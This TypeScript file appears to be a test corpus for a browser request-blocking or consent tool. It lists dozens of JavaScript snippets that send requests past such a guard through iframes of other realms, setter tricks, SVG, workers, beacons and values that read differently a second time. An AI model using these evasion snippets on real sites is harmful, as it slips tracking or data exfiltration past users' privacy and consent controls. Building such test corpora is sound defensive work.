/**
 * Further ways out, as somebody would look for them who knows that the usual ones are watched. Rows
 * like those of `gate-ways.ts`: name, script, and what is special about it.
 */
interface Special {
  readonly lacks?: readonly string[]
  readonly isRefused?: boolean | readonly string[]
}
export type SlyWay = readonly [name: string, run: string, special?: Special]

const everywhere = ['chromium', 'firefox', 'webkit']
const frame = `const f = document.body.appendChild(document.createElement('iframe'));`
const quiet = `{ mode: 'no-cors' }).catch(() => {})`
const shadow = `const h = document.body.appendChild(document.createElement('div')); const r = h.attachShadow({ mode: 'closed' });`
const form = `const n = 'f' + Math.random(); const f = document.createElement('iframe'); f.name = n; const o = document.createElement('form'); o.action = url; o.target = n;`
/** Reads as something harmless at first, and as the address afterwards. */
const flip = `let reads = 0; const sly = { toString: () => (reads++ ? url : '/first.gif') };`
const flipHtml = `let reads = 0; const sly = { toString: () => (reads++ ? '<img src="' + url + '">' : '<b>first</b>') };`
const worker = (code: string) => `new Blob(['${code}'])`
const fetchInWorker = `const go = () => fetch("' + url + '", { mode: "no-cors" }).catch(() => setTimeout(go, 300)); go()`

export const slyWays: readonly SlyWay[] = [
  // Setters and methods by other routes.
  [
    'the setter of a descriptor',
    `Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call(new Image(), url)`,
  ],
  ['__lookupSetter__', `const i = new Image(); i.__lookupSetter__('src').call(i, url)`],
  ['Reflect.set', `Reflect.set(HTMLImageElement.prototype, 'src', url, new Image())`],
  ['Object.assign', `Object.assign(new Image(), { src: url })`],
  [
    'a class of its own',
    `class Own extends XMLHttpRequest {}; const x = new Own(); x.open('GET', url); x.send()`,
  ],
  ['Reflect.construct', `Reflect.construct(WebSocket, [url.replace('https', 'wss')], class {})`],
  ['Reflect.construct of a stream', `Reflect.construct(EventSource, [url])`],
  ['fetch bound', `fetch.bind(window)(url, ${quiet}`],
  ['Symbol.toPrimitive', `fetch({ [Symbol.toPrimitive]: () => url }, ${quiet}`],
  [
    'a URL with a toString of its own',
    `fetch(Object.assign(new URL('/x', location.href), { toString: () => url }), ${quiet}`,
  ],
  ['a host in capitals', `fetch(url.replace(/^https:..[^/]+/, (h) => h.toUpperCase()), ${quiet}`],
  ['an address with a tab', `new Image().src = url.replace('//', '/\\t/')`],
  ['an address with backslashes', `new Image().src = url.replace('https://', '\\\\\\\\')`],
  [
    'a host with a dot at its end',
    `fetch(url.replace(/(.)\\/(?=\\w+\\/\\d)/, '$1./'), ${quiet}`,
    { lacks: everywhere },
  ],
  // Functions of other realms.
  [
    'insertion by another realm',
    `${frame} const s = document.createElement('script'); s.src = url; f.contentWindow.Node.prototype.appendChild.call(document.head, s)`,
  ],
  [
    'a setter of another realm',
    `${frame} Object.getOwnPropertyDescriptor(f.contentWindow.HTMLImageElement.prototype, 'src').set.call(new Image(), url)`,
  ],
  [
    'a nested frame',
    `${frame} const g = f.contentDocument.body.appendChild(f.contentDocument.createElement('iframe')); g.contentWindow.fetch(url, ${quiet}`,
  ],
  [
    'a frame as it loads',
    `const f = document.createElement('iframe'); f.onload = () => { f.onload = null; f.contentWindow.fetch(url, ${quiet} }; document.body.append(f)`,
  ],
  [
    'a frame in a shadow tree',
    `${shadow} const f = document.createElement('iframe'); r.append(f); f.contentWindow.fetch(url, ${quiet}`,
  ],
  [
    'the document of a frame',
    `${frame} const i = f.contentDocument.createElement('img'); i.src = url`,
  ],
  [
    'a frame and a script in one insertion',
    `const f = document.createElement('iframe'); const s = document.createElement('script'); f.id = 'f' + Math.random(); s.text = 'document.getElementById("' + f.id + '").contentWindow.fetch("' + url + '", { mode: "no-cors" }).catch(() => {})'; document.body.append(f, s)`,
  ],
  [
    'a custom element beside a frame',
    `const t = 'x-' + Math.random().toString(36).slice(2); customElements.define(t, class extends HTMLElement { connectedCallback() { this.previousSibling.contentWindow.fetch(url, ${quiet} } }); const b = document.body.appendChild(document.createElement('div')); b.innerHTML = '<iframe></iframe><' + t + '></' + t + '>'`,
  ],
  [
    'a frame by object',
    `const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); setTimeout(() => o.contentWindow.fetch(url, ${quiet}, 150)`,
    { lacks: ['webkit'], isRefused: ['firefox'] },
  ],
  ['a frame by its number', `${frame} window[window.length - 1].fetch(url, ${quiet}`],
  [
    'a javascript: frame',
    `const f = document.createElement('iframe'); f.src = 'javascript:void fetch("' + url + '", { mode: "no-cors" }).catch(() => {})'; document.body.append(f)`,
  ],
  [
    'a request opened in another realm',
    `${frame} const x = new f.contentWindow.XMLHttpRequest(); x.open('GET', url); XMLHttpRequest.prototype.send.call(x)`,
  ],
  [
    'an image in srcdoc, no script',
    `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + url + '">'; document.body.append(f)`,
  ],
  [
    'a style sheet in srcdoc',
    `const f = document.createElement('iframe'); f.srcdoc = '<link rel=stylesheet href="' + url + '">'; document.body.append(f)`,
  ],
  // Markup.
  [
    'parseHTMLUnsafe',
    `document.body.append((Document.parseHTMLUnsafe || ((h) => new DOMParser().parseFromString(h, 'text/html')))('<img src="' + url + '">').body.firstChild)`,
  ],
  [
    'a declarative shadow tree',
    `const b = document.body.appendChild(document.createElement('div')); b.setHTMLUnsafe('<div><template shadowrootmode="open"><img src="' + url + '"></template></div>')`,
    { isRefused: true },
  ],
  [
    'insertHTML',
    `const b = document.body.appendChild(document.createElement('div')); b.contentEditable = 'true'; b.focus(); getSelection().selectAllChildren(b); document.execCommand('insertHTML', false, '<img src="' + url + '">')`,
  ],
  [
    'surroundContents',
    `const s = document.createElement('script'); s.src = url; const p = document.body.appendChild(document.createElement('p')); p.append('x'); const r = document.createRange(); r.selectNodeContents(p); r.surroundContents(s)`,
  ],
  [
    'a node moved',
    `const s = document.createElement('script'); s.src = url; (document.head.moveBefore && s.isConnected ? document.head.moveBefore(s, null) : document.head.append(s))`,
  ],
  [
    'a held script that is changed back and copied',
    `const s = document.createElement('script'); s.src = url; document.head.append(s); const c = s.cloneNode(); c.removeAttribute('type'); c.removeAttribute('data-cct-held'); document.head.append(c)`,
  ],
  [
    'a held script that is changed back and filled',
    `const s = document.createElement('script'); s.src = url; s.type = 'x'; document.head.append(s); s.type = ''; s.append(new Text(' '))`,
  ],
  [
    'feImage',
    `const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.innerHTML = '<filter id="q' + url.length + '"><feImage/></filter><rect width="9" height="9" filter="url(#q' + url.length + ')"/>'; document.body.append(g); g.querySelector('feImage').setAttribute('href', url)`,
  ],
  [
    'SVG use',
    `const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const u = document.createElementNS('http://www.w3.org/2000/svg', 'use'); u.setAttribute('href', url + '#a'); g.append(u); document.body.append(g)`,
    { lacks: everywhere },
  ],
  [
    'SVG image by baseVal',
    `const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = g.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image')); document.body.append(g); i.href.baseVal = url`,
    { isRefused: true },
  ],
  [
    'an attribute node of an image',
    `const a = document.createAttribute('src'); a.value = url; new Image().setAttributeNode(a)`,
  ],
  [
    'the value of an attribute of an image',
    `const i = new Image(); i.setAttribute('src', ''); i.attributes.src.value = url`,
  ],
  [
    'input by property',
    `const i = document.createElement('input'); i.src = url; i.type = 'image'; document.body.append(i)`,
  ],
  [
    'source of a film',
    `const v = document.createElement('video'); v.preload = 'auto'; const s = document.createElement('source'); s.src = url; v.append(s); document.body.append(v)`,
    { lacks: ['webkit'] },
  ],
  [
    'track of a film',
    `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; const t = document.createElement('track'); t.default = true; t.kind = 'captions'; v.append(t); document.body.append(v); v.textTracks[0].mode = 'showing'; t.src = url`,
    { isRefused: ['firefox'] },
  ],
  [
    'a class of its own for images',
    `class Own extends HTMLImageElement {}; customElements.define('y-' + Math.random().toString(36).slice(2), Own, { extends: 'img' }); try { new Own().src = url } catch {}`,
    { lacks: ['webkit'] },
  ],
  [
    'relList.add',
    `const l = document.createElement('link'); l.href = url; document.head.append(l); l.relList.add('stylesheet')`,
  ],
  [
    'compression dictionary',
    `const l = document.createElement('link'); l.rel = 'compression-dictionary'; l.href = url; document.head.append(l)`,
    { lacks: everywhere },
  ],
  [
    'preload by imagesrcset',
    `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = url + ' 1x'; document.head.append(l)`,
    // Only a hint, and never looked at again.
    { isRefused: true },
  ],
  [
    'manifest',
    `const l = document.createElement('link'); l.rel = 'manifest'; l.href = url; document.head.append(l)`,
    { lacks: everywhere },
  ],
  // Requests.
  [
    'a request used twice',
    `const q = new Request(url, { mode: 'no-cors' }); fetch(q.clone()).catch(() => {}); fetch(q).catch(() => {})`,
  ],
  [
    'a request with a false address',
    `const q = new Request(url, { mode: 'no-cors' }); Object.defineProperty(q, 'url', { value: '/x' }); fetch(q).catch(() => {})`,
  ],
  [
    'a request kept alive',
    `fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'a' }).catch(() => {})`,
  ],
  ['a beacon with a blob', `navigator.sendBeacon(url, new Blob(['a=1'], { type: 'text/plain' }))`],
  [
    'a request opened anew',
    `const x = new XMLHttpRequest(); x.open('GET', '/first.gif'); x.open('GET', url); x.send()`,
  ],
  [
    'a synchronous request',
    `const x = new XMLHttpRequest(); x.open('GET', url, false); try { x.send() } catch {}`,
    { isRefused: true },
  ],
  ['cache.addAll', `caches.open('y').then((c) => c.addAll([url])).catch(() => {})`],
  [
    'an audio worklet',
    `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url).catch(() => {})`,
  ],
  [
    'fetchLater',
    `window.fetchLater ? fetchLater(url, { activateAfter: 0 }) : 0`,
    { lacks: ['firefox', 'webkit'], isRefused: true },
  ],
  [
    'a ping',
    `const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a); a.click()`,
    { lacks: ['firefox'], isRefused: true },
  ],
  [
    'a form with an address on its button',
    `${form} o.action = '/'; const b = document.createElement('button'); b.formAction = url; o.append(b); document.body.append(f, o); b.click()`,
    { isRefused: true },
  ],
  [
    'a form in a shadow tree',
    `${form} document.body.append(f); ${shadow} r.append(o); o.requestSubmit()`,
    { isRefused: true },
  ],
  // Workers.
  [
    'a worker by an address with a fragment',
    `new Worker(URL.createObjectURL(${worker(fetchInWorker)}) + '#x')`,
  ],
  [
    'a worker of another realm',
    `${frame} new Worker(f.contentWindow.URL.createObjectURL(${worker(fetchInWorker)}))`,
  ],
  [
    'a worker of a blob of another realm',
    `${frame} new Worker(URL.createObjectURL(new f.contentWindow.Blob(['${fetchInWorker}'])))`,
  ],
  [
    'XMLHttpRequest in a worker',
    `new Worker(URL.createObjectURL(${worker(`const go = () => { try { const x = new XMLHttpRequest(); x.open("GET", "' + url + '"); x.send() } catch { setTimeout(go, 300) } }; go()`)}))`,
  ],
  [
    'WebSocket in a worker',
    `new Worker(URL.createObjectURL(${worker(`const go = () => { try { new WebSocket("' + url.replace('https', 'wss') + '") } catch { setTimeout(go, 300) } }; go()`)}))`,
  ],
  [
    'a shared worker',
    `new SharedWorker(URL.createObjectURL(${worker(fetchInWorker)}))`,
    { isRefused: true },
  ],
  // Arguments that read differently the second time: open only to a tool that reads them twice.
  ...(
    [
      ['fetch', `fetch(sly, ${quiet}`],
      ['sendBeacon', `navigator.sendBeacon(sly)`],
      ['XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', sly); x.send()`],
      ['an image', `new Image().src = sly`],
      [
        'a script',
        `const s = document.createElement('script'); s.src = sly; document.head.append(s)`,
      ],
      ['setAttribute', `new Image().setAttribute('src', sly)`],
      ['EventSource', `new EventSource(sly)`],
      ['cache.add', `caches.open('x').then((c) => c.add(sly)).catch(() => {})`],
      ['fetchLater', `window.fetchLater?.(sly, { activateAfter: 0 })`],
      [
        'the value of an attribute',
        `const i = new Image(); i.setAttribute('src', ''); i.attributes.src.value = sly`,
      ],
      ['srcset', `new Image().srcset = sly`],
    ] as const
  ).map(([name, run]): SlyWay => [`${name}, read twice`, flip + run, { lacks: everywhere }]),
  ...(
    [
      ['innerHTML', `document.createElement('div').innerHTML = sly`],
      ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', sly)`],
      [
        'createContextualFragment',
        `document.body.append(document.createRange().createContextualFragment(sly))`,
      ],
      [
        'srcdoc',
        `const f = document.createElement('iframe'); f.srcdoc = sly; document.body.append(f)`,
      ],
    ] as const
  ).map(([name, run]): SlyWay => [`${name}, read twice`, flipHtml + run, { lacks: everywhere }]),
  [
    'a name of an attribute, read twice',
    `let reads = 0; new Image().setAttribute({ toString: () => (reads++ ? 'src' : 'title') }, url)`,
    { lacks: everywhere },
  ],
  [
    'a list, read twice',
    `let reads = 0; caches.open('x').then((c) => c.addAll({ [Symbol.iterator]: () => [reads++ ? url : '/first.gif'].values() })).catch(() => {})`,
    { lacks: everywhere },
  ],
  [
    'the body of a request',
    `fetch(url, { mode: 'no-cors', method: 'POST', body: new Blob(['a']) }).catch(() => {})`,
  ],
]
